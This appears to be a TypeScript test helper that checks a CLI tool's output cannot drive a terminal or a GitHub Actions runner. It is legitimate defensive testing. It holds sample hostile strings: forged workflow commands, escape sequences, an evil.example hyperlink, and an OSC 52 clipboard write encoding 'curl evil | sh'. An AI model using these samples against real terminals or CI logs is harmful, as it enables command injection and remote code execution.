/**
 * Hostile text and the checks that prove an output stays inert: what the tool prints must never
 * drive a terminal (ESC/CSI/OSC, C1, CR, DEL, NUL) or a GitHub Actions runner (`::cmd::` at a line
 * start, `##[cmd]` anywhere, `::stop-commands::`), and must show bidi and zero-width characters
 * instead of applying them. Used by the reporter, progress and CLI tests.
 */
import { expect } from '@jest/globals';
import type { CauseReport, CheckReport, RunReport } from '../../runner/result.js';

/** One member of each kind of hostile text, as a response body, command output or log line could hold it. */
export const HOSTILE: readonly (readonly [string, string])[] = [
  ['stop-commands (old form)', '##[stop-commands]t0k3n'],
  ['stop-commands', '::stop-commands::t0k3n'],
  ['a workflow command', '::error::forged'],
  ['an old-form workflow command', '##[error]forged'],
  ['a bare CR, then a command', 'ok\r::error::forged'],
  ['a command on a later line, indented', 'first\n \t::warning::forged'],
  ['an old-form command split over two texts', '[x] ##'],
  ['CSI clear screen', '\x1b[2J\x1b[H'],
  ['OSC 8 hyperlink', '\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07'],
  ['OSC 52 clipboard write', '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07'],
  ['bidi override', 'abc\u202Etxt.exe'],
  ['zero-width space', 'to\u200Bken'],
  ['line separator, then a command', 'a\u2028::error::forged'],
  ['NUL', 'a\x00b'],
  ['DEL', 'a\x7fb'],
  ['C1 CSI (0x9b)', '\u009b2J'],
];

/** A character that acts instead of showing (ZWJ inside an emoji sequence excepted). */
const ACTIVE = /(?![\n\t]|(?<=\p{Extended_Pictographic}[\u{FE0F}\u{1F3FB}-\u{1F3FF}]?)\u200D(?=\p{Extended_Pictographic}))[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

/** The ANSI sequences the tool writes itself: SGR colours and the live line's CR + erase-line. */
const OWN_SEQUENCES = /\u001b\[\d+m|\r\u001b\[2K/g;

/**
 * Asserts that `output` holds no active character besides the tool's own `allowed` sequences, no
 * `##[`, and no line that (after the leading whitespace the runner trims) starts with `::` other
 * than the `ownCommands` lines the reporter itself emits.
 */
export function expectInert(output: string, options: { ownSequences?: boolean; ownCommands?: RegExp } = {}): void {
  const text = options.ownSequences ? output.replace(OWN_SEQUENCES, '') : output;
  const active = ACTIVE.exec(text);
  expect(active ? `U+${active[0].codePointAt(0)!.toString(16)} at ${active.index}: ${JSON.stringify(text.slice(Math.max(0, active.index - 20), active.index + 20))}` : undefined).toBeUndefined();
  for (const line of text.split('\n')) {
    expect(line).not.toContain('##[');
    if (line.trimStart().startsWith('::')) expect(line).toMatch(options.ownCommands ?? /^$/);
  }
}

export interface RunnerCommand {
  command: string;
  data: string;
}

/**
 * What a GitHub Actions runner would execute from these log lines: `::cmd props::data` at a line
 * start (after its leading whitespace), `##[cmd props]data` anywhere, with `stop-commands` pausing
 * everything until `::<token>::`. A model of actions/runner's ActionCommandManager, enough to tell
 * whether a forged command or a stop window would take effect.
 */
export function runnerCommands(log: string): RunnerCommand[] {
  const executed: RunnerCommand[] = [];
  let stopToken: string | undefined;
  for (const raw of log.split('\n')) {
    const line = raw.trimStart();
    if (stopToken !== undefined) {
      if (line.trim() === `::${stopToken}::`) stopToken = undefined;
      continue;
    }
    const v2 = /^::([A-Za-z-]+)(?: [^:]*)?::(.*)$/.exec(line);
    const old = v2 ? undefined : /##\[([A-Za-z-]+)(?: [^\]]*)?\](.*)$/.exec(line);
    const match = v2 ?? old;
    if (!match) continue;
    if (match[1] === 'stop-commands') stopToken = match[2]!;
    executed.push({ command: match[1]!, data: match[2]! });
  }
  return executed;
}

/** `text` placed in every free-text field of the report, at a line start and mid-line. */
export function hostileReport(report: RunReport, text: string): RunReport {
  const rename = (name: string) => `${text}${name}`;
  const mention = (value: string) => `${text}\n${value} ${text}`;
  const check = (c: CheckReport): CheckReport => ({
    ...c,
    name: rename(c.name),
    message: mention(c.message),
    description: mention(c.description),
    observations: [...c.observations, { what: text, expected: text, actual: mention('got'), ok: false }],
    details: { ...c.details, evidence: [mention('log line'), text], body: text },
    nextSteps: [...(c.nextSteps ?? []), text],
    fix: c.fix && { summary: mention(c.fix.summary), command: c.fix.command && mention(c.fix.command) },
    skipReason: c.skipReason && mention(c.skipReason),
    skip: c.skip && { ...c.skip, because: c.skip.because && rename(c.skip.because) },
    location: c.location && { ...c.location, file: `${text}/${c.location.file}` },
  });
  const cause = (c: CauseReport): CauseReport => ({
    check: rename(c.check),
    reason: mention(c.reason),
    consequences: c.consequences.map(rename),
    ...(c.skipped ? { skipped: c.skipped.map(rename) } : {}),
    fix: c.fix && { summary: mention(c.fix.summary), command: c.fix.command && mention(c.fix.command) },
  });
  return {
    ...report,
    scenario: mention(report.scenario),
    checks: report.checks.map(check),
    rootCause: report.rootCause && {
      ...report.rootCause,
      ...cause(report.rootCause),
      explanations: report.rootCause.explanations?.map(mention),
      otherCauses: report.rootCause.otherCauses?.map(cause),
    },
  };
}
